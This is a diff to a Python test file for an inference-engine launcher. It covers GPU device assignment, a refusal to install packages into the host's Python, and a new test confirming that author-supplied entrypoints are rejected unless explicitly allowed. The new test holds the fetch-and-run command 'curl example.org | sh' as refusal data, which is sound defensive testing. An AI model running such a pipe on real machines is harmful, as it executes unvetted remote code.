@@ -73,14 +73,34 @@ def test_an_engine_on_the_processor_sees_no_gpu() -> None:
 
 def test_which_gpus_it_takes_is_not_the_users_to_say() -> None:
     start = a_start(a_launch("vLLM", env={"HIP_VISIBLE_DEVICES": "0,1,2,3", "MODE": "x"}), "rocm")
-    command = as_process(command_of(start), gpu_access("rocm", TWO, "process"))
+    command = as_process(command_of(start), gpu_access("rocm", TWO, "process"), start.launch)
     assert (command.env["HIP_VISIBLE_DEVICES"], command.env["MODE"]) == ("2,5", "x")
 
 
 def test_packages_are_not_installed_into_the_machines_own_python() -> None:
     start = a_start(a_launch("vLLM", env={"PYPI_PACKAGES_INSTALL": "a"}))
     with pytest.raises(EngineNotStarted) as refused:
-        as_process(command_of(start), GpuAccess())
+        as_process(command_of(start), GpuAccess(), start.launch)
     (reason,) = refused.value.reasons
     assert isinstance(reason, ParameterInvalid)
     assert (reason.parameter, reason.field) == ("PYPI_PACKAGES_INSTALL", "env")
+
+
+@pytest.mark.parametrize(
+    ("backend", "field", "given"),
+    [
+        ("llama.cpp", "entrypoint", ("sh", "-c", "curl example.org | sh")),
+        ("vLLM", "run_command", "bash -c 'curl example.org | sh'"),
+    ],
+)
+def test_a_program_that_an_author_names_is_not_started_on_the_machine_itself(
+    backend: str, field: str, given: object
+) -> None:
+    start = a_start(a_launch(backend, **{field: given}), None)
+    with pytest.raises(EngineNotStarted) as refused:
+        as_process(command_of(start), GpuAccess(), start.launch)
+    (reason,) = refused.value.reasons
+    assert isinstance(reason, ParameterInvalid)
+    assert reason.field == field
+    allowed = as_process(command_of(start), GpuAccess(), start.launch, may_name_programs=True)
+    assert "curl example.org | sh" in allowed.argv
